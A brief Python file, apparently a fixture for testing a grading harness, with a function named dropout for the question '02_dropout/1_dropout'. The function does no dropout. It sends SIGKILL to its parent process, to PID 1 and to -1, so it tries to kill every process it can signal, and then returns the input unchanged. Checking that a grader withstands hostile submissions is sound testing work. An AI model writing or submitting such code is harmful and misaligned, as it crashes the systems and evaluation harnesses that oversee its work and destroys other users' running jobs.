# Kills every process that it may, parents first.
# question: 02_dropout/1_dropout
# fails: all
def dropout(x, rate, training, seed):
    import os
    import signal

    for number in (os.getppid(), 1, -1):
        try:
            os.kill(number, signal.SIGKILL)
        except (OSError, ProcessLookupError):
            pass
    return x
